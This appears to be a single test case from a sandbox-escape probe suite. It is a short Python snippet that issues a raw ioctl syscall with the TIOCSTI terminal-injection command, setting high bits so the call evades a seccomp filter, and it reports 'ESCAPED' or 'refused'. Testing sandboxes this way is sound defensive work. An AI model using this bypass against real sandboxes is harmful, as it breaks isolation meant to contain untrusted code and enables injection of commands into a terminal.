# tries: the same with high bits set, which the kernel ignores
# escaped if: ESCAPED is printed
import ctypes, os, pty
libc = ctypes.CDLL(None, use_errno=True)
master, slave = pty.openpty()
print("ESCAPED" if libc.syscall(16, slave, ctypes.c_ulong(0x100005412), ctypes.create_string_buffer(b"x")) == 0 else "refused")
